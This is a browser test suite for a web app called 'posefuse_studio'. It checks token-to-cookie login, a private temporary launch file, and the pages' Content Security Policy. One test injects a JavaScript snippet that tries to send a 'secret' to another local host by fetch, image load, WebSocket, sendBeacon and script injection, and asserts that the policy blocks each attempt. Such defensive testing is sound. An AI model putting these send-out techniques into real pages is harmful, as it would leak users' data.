"""What a browser makes of the rules: a token becomes a cookie, pages work, and a script in one reaches nothing elsewhere."""

import socket
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from posefuse_studio import app
from posefuse_studio.access import Access
from posefuse_studio.pages import PAGES
from posefuse_studio.state import Studio
from posefuse_studio.workspace import StudioWorkspace
from tools.studio_server import TOKEN, free_port, server, stand_in

pytestmark = pytest.mark.slow
# each tries to send something to another host; how it ended, or that it was kept from it
_SEND = """async (base) => {
  const blocked = [];
  document.addEventListener("securitypolicyviolation", (event) => blocked.push(event.effectiveDirective));
  const tried = [
    fetch(base).catch(() => 0),
    new Promise((done) => { const one = new Image(); one.onload = one.onerror = done; one.src = base + "/image.png"; }),
    new Promise((done) => {
      try { const one = new WebSocket(base.replace("http", "ws")); one.onopen = one.onerror = done; } catch { done(); }
    }),
    Promise.resolve(navigator.sendBeacon(base, "secret")),
    new Promise((done) => {
      const one = Object.assign(document.createElement("script"), { src: base + "/a.js", onload: done, onerror: done });
      document.head.append(one);
    }),
  ];
  await Promise.all(tried);
  await new Promise((done) => setTimeout(done, 500));
  return blocked;
}"""


@pytest.fixture(scope="module")
def lab(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Path, int]]:
    """Workspace and port of a studio with a stand-in for a live session."""
    workspace, port = tmp_path_factory.mktemp("lab"), free_port()
    with server(workspace, port), stand_in(workspace, 2):
        yield workspace, port


def test_the_printed_address_opens_the_page_and_a_cookie_does_from_then_on(page: Any, lab: tuple[Path, int]) -> None:
    page.context.clear_cookies()
    base = f"http://127.0.0.1:{lab[1]}"
    page.goto(f"{base}/live")
    page.get_by_text("a token is needed").wait_for()
    page.goto(f"{base}/live?token={TOKEN}")
    page.get_by_role("heading", name="Live", level=1).wait_for()
    assert page.url == f"{base}/live"
    page.goto(f"{base}/simulate")
    page.get_by_role("heading", name="Simulate", level=1).wait_for()


def test_the_file_that_opens_the_browser_is_private_and_leads_to_the_page(
    page: Any, lab: tuple[Path, int], monkeypatch: pytest.MonkeyPatch
) -> None:
    page.context.clear_cookies()
    studio = Studio(StudioWorkspace(lab[0]), Access.of("127.0.0.1", lab[1], TOKEN))
    monkeypatch.setattr(app.webbrowser, "open", lambda address: True)
    with app._opening_page(studio):
        [file] = lab[0].rglob("open-*.html")
        assert file.stat().st_mode & 0o777 == 0o600
        page.goto(file.as_uri())
        page.get_by_role("heading", name="Cameras", level=1).wait_for()
    assert not file.exists()


def test_a_script_in_a_page_sends_nothing_elsewhere(page: Any, lab: tuple[Path, int]) -> None:
    with socket.create_server(("127.0.0.1", 0)) as other:
        other.settimeout(0.5)
        for one in PAGES:
            page.goto(f"http://127.0.0.1:{lab[1]}{one.path}")
            page.get_by_role("heading", name=one.title, level=1).wait_for()
            blocked = page.evaluate(_SEND, f"http://127.0.0.1:{other.getsockname()[1]}")
            assert {"connect-src", "img-src", "script-src-elem"} <= set(blocked)
            with pytest.raises(TimeoutError):
                other.accept()


def test_every_page_works_within_its_policy(page: Any, lab: tuple[Path, int]) -> None:
    refused: list[str] = []
    page.on("console", lambda line: refused.append(line.text) if "Content Security Policy" in line.text else None)
    for path in [one.path for one in PAGES] + ["/phone"]:
        page.goto(f"http://127.0.0.1:{lab[1]}{path}")
        page.wait_for_timeout(1500)
    page.goto(f"http://127.0.0.1:{lab[1]}/live")
    page.wait_for_function("window.posefuseDrawn && window.posefuseDrawn.scene > 5 && window.posefuseDrawn.tile > 5")
    assert refused == []
